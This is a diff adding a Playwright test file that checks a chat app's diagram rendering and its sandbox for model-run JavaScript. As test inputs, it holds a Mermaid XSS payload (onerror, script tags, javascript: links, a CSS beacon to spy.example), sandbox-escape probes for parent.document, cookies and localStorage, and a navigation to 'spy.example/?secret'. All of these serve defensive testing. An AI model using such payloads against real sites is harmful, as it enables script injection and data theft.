@@ -1,0 +1,156 @@
+"""What runs in the sandbox of the page: diagrams are drawn, programs of a model answer; neither gets out."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from browsing import Visit
+from chatting import COMPLETIONS, answer_with, answers, ask, open_settings, send, set_up, wait_for_answer
+from page_server import PageServer
+from playwright.sync_api import Frame, Locator, Page, expect
+
+DIAGRAMS = (
+    "flowchart LR\n  A[Start] --> B{Sure?}\n  B -->|yes| C[Go]\n  B -->|no| A",
+    "sequenceDiagram\n  Alice->>Bob: Hello\n  Bob-->>Alice: Hi",
+    "classDiagram\n  Animal <|-- Duck\n  class Duck {\n    +swim()\n  }",
+    "stateDiagram-v2\n  [*] --> Still\n  Still --> [*]",
+    "gantt\n  dateFormat YYYY-MM-DD\n  section A\n  One :a1, 2024-01-01, 3d\n  Two :after a1, 2d",
+    'pie\n  "Dogs" : 3\n  "Cats" : 2',
+)
+WRONG = "flowchart LR\n  A[Start --> ???"
+HOSTILE = """%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://spy.example/css) }"}}%%
+flowchart TD
+  A["<img src='https://spy.example/x.png' onerror='top.ran = 1'>"] --> B["<script>top.ran = 1</script>"]
+  B --> C["<a href='javascript:top.ran = 1'>here</a>"]
+  click A "javascript:top.ran = 1"
+  click B call ran()
+  click C "https://spy.example/" _top"""
+
+# What a program in the frame could try, if one could be smuggled into it.
+ESCAPES = """async (origin) => {
+  const name = (act) => { try { return String(act()); } catch (error) { return error.name; } };
+  const load = (element) => new Promise((done) => {
+    element.onload = () => done("loaded");
+    element.onerror = () => done("refused");
+    document.body.append(element);
+  });
+  return [
+    await fetch(origin + "/v1/models").then(() => "reached", (error) => error.name),
+    name(() => parent.document),
+    name(() => localStorage),
+    name(() => document.cookie),
+    await load(Object.assign(new Image(), { src: origin + "/icon.png" })),
+    await load(Object.assign(document.createElement("script"), { src: origin + "/docs.js" })),
+    name(() => self.origin),
+  ];
+}"""
+REFUSED = ["TypeError", *["SecurityError"] * 3, "refused", "refused", "null"]
+
+
+def show(page: Page, *diagrams: str) -> Locator:
+    """An answer with these diagrams in it."""
+    answer_with(page, {"content": "\n\n".join(f"```mermaid\n{text}\n```" for text in diagrams)})
+    answer = ask(page, "Draw it")
+    page.unroute(COMPLETIONS)
+    return answer
+
+
+def drawings(answer: Locator) -> Locator:
+    return answer.get_by_role("img", name="Diagram")
+
+
+def sandbox_of(page: Page) -> Frame:
+    return next(frame for frame in page.frames if frame.url.endswith("/sandbox"))
+
+
+@pytest.mark.smoke
+def test_diagrams_are_drawn_and_a_wrong_one_shows_its_source(page: Page) -> None:
+    answer = show(page, *DIAGRAMS[:3], WRONG)
+    expect(drawings(answer)).to_have_count(3)
+    expect(answer.get_by_text(re.compile(r"This diagram cannot be drawn\. Parse error on line \d\.$"))).to_be_visible()
+    expect(answer.locator("pre")).to_have_text(WRONG)
+    answer.get_by_role("button", name="Source").first.click()
+    expect(answer.locator("pre").first).to_have_text(DIAGRAMS[0])
+    expect(drawings(answer)).to_have_count(2)
+    answer.get_by_role("button", name="Source").first.click()
+    last = show(page, *DIAGRAMS[3:])
+    expect(drawings(last)).to_have_count(3)
+    sizes = drawings(last).evaluate_all("all => all.map(image => [image.complete, image.naturalWidth])")
+    assert all(complete and width > 40 for complete, width in sizes), sizes
+    light = drawings(last).first.get_attribute("src")
+    page.evaluate("() => localStorage.setItem('mlxr.theme', '\"dark\"')")
+    page.evaluate("() => window.dispatchEvent(new StorageEvent('storage', { key: 'mlxr.theme' }))")
+    expect(drawings(last).first).not_to_have_attribute("src", light or "")
+
+
+def test_hostile_diagrams_do_nothing_and_the_sandbox_is_shut(visit: Visit) -> None:
+    page = visit.page
+    answer = show(page, HOSTILE)
+    place = drawings(answer).or_(answer.get_by_text("This diagram cannot be drawn"))
+    expect(place).to_be_visible()
+    place.click()
+    frame = sandbox_of(page)
+    assert frame.evaluate(ESCAPES, visit.origin) == REFUSED
+    frame.evaluate("() => { location.href = 'https://spy.example/?secret'; }")
+    page.wait_for_timeout(300)
+    assert page.evaluate("() => [window.ran, document.querySelector('article script, article svg a')]") == [None, None]
+    assert page.url.startswith(visit.origin)
+    assert len(page.context.pages) == 1
+    assert not [url for url in visit.foreign_requests if not url.startswith("chrome-error:")]
+    visit.faults.clear()  # the browser's words about what it refused
+
+
+def _call(page: Page, *programs: str) -> None:
+    """Have the model call the tool once for each program, and what comes after that be its own."""
+    calls = [
+        {"index": at, "id": f"c{at}", "type": "function", "function": {"name": "run_javascript", "arguments": text}}
+        for at, text in enumerate(json.dumps({"code": program}) for program in programs)
+    ]
+    answer_with(page, {"tool_calls": calls})
+    send(page, "Compute it")
+    expect(page.get_by_role("region", name="Call of run_javascript").last).to_be_visible()
+    page.unroute(COMPLETIONS)
+
+
+def test_programs_of_the_model_run_in_the_sandbox_once_they_are_confirmed(page: Page, server: PageServer) -> None:
+    set_up(page, Max_tokens="8")
+    settings = open_settings(page)
+    settings.get_by_label("JavaScript in a sandbox (asks before it runs)").check()
+    settings.get_by_label("Tool choice", exact=True).select_option("None")
+    _call(page, "6 * 7")
+    expect(page.get_by_role("region", name="Call of run_javascript")).to_contain_text("6 * 7")
+    with page.expect_request(COMPLETIONS) as asked:
+        page.get_by_role("button", name="Run once in the sandbox").click()
+    assert json.loads(asked.value.post_data or "{}")["messages"][-1]["content"] == "42"
+    wait_for_answer(page)
+    expect(settings.get_by_label("Run JavaScript without asking me")).not_to_be_checked()
+    _call(page, "1")
+    page.get_by_role("button", name="Decline").click()
+    expect(page.get_by_role("article", name="Result of run_javascript").last).to_contain_text("declined")
+    wait_for_answer(page)
+    settings.get_by_label("Run JavaScript without asking me").check()
+    with page.expect_request(lambda request: "c7" in (request.post_data or "")) as asked:
+        _call(
+            page,
+            "const x = [];\nfor (let i = 0; i < 3; i++) x.push(i);\nconsole.log(x, { a: 1n });\nreturn x.length",
+            "for (;;) {}",
+            f"fetch('{server.url}/v1/models').then(() => 'reached', (error) => error.name)",
+            "for (;;) console.log('x'.repeat(1000))",
+            f"try {{ importScripts('{server.url}/docs.js') }} catch (error) {{ return error.name }}",
+            "[typeof document, typeof localStorage, typeof parent, self.origin]",
+            "throw new RangeError('no')",
+            "nonsense(",
+        )
+    told = [m["content"] for m in json.loads(asked.value.post_data or "{}")["messages"] if m["role"] == "tool"][2:]
+    assert told[:3] == ['[0,1,2] {"a":"1n"}\n3', "Error: It was stopped after 4 s.", "TypeError"]
+    assert told[3].startswith("xxx")
+    assert told[3].endswith("(cut)")
+    assert len(told[3]) < 20_100
+    assert told[4:7] == ["NetworkError", '["undefined","undefined","undefined","null"]', "Error: RangeError: no"]
+    assert told[7].startswith("Error: ")
+    assert "SyntaxError" in told[7]
+    wait_for_answer(page)
+    assert page.frames == [page.main_frame], "a sandbox is gone when its program has ended"
+    assert answers(page).count() >= 2
